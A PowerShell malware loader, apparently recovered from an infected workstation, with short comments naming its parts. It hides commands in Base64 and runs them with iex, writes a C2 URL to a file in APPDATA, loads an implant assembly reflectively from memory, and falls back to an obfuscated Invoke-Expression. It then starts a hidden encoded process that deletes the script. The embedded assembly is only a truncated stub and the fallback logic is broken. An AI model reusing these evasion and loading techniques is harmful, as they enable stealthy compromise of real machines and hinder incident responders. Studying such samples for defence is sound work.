# Loader found in %TEMP%\wuauclt.ps1 on WS-0142 (launched by a malicious LNK).
# Keeps a small config blob, loads the implant assembly from memory and cleans up after itself.

$cfg = 'JHU9J2h0dHA6Ly8xMC4yMC4zMC40MC9rJzskcD1Kb2luLVBhdGggJGVudjpBUFBEQVRBICdrLmRhdCc7U2V0LUNvbnRlbnQgLVBhdGggJHAgLVZhbHVlICR1'
$blob = 'TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAgAAAAA=='

# config: writes the C2 URL for the implant
iex ([System.Text.Encoding]::UTF8.GetString([System.Convert]::FromBase64String($cfg)))

# implant
$bytes = [System.Convert]::FromBase64String($blob)
$asm = [System.Reflection.Assembly]::Load($bytes)
$entry = $asm.GetType('Updater.Program').GetMethod('Run')
$entry.Invoke($null, @(, [string[]]@('--silent')))

# fallback if the assembly could not start
if (-not $?) {
    & ('Inv' + 'oke-' + 'Exp' + 'ression') (Get-Content -Path "$env:APPDATA\k.dat" -Raw)
}

# delete self in 5 seconds from a detached hidden process
Start-Process -FilePath powershell.exe -WindowStyle Hidden -ArgumentList '-NoP -NonI -W Hidden -EncodedCommand UwB0AGEAcgB0AC0AUwBsAGUAZQBwACAALQBTAGUAYwBvAG4AZABzACAANQA7ACAAUgBlAG0AbwB2AGUALQBJAHQAZQBtACAALQBQAGEAdABoACAAJABlAG4AdgA6AFQARQBNAFAAXAB3AHUAYQB1AGMAbAB0AC4AcABzADEAIAAtAEYAbwByAGMAZQA='
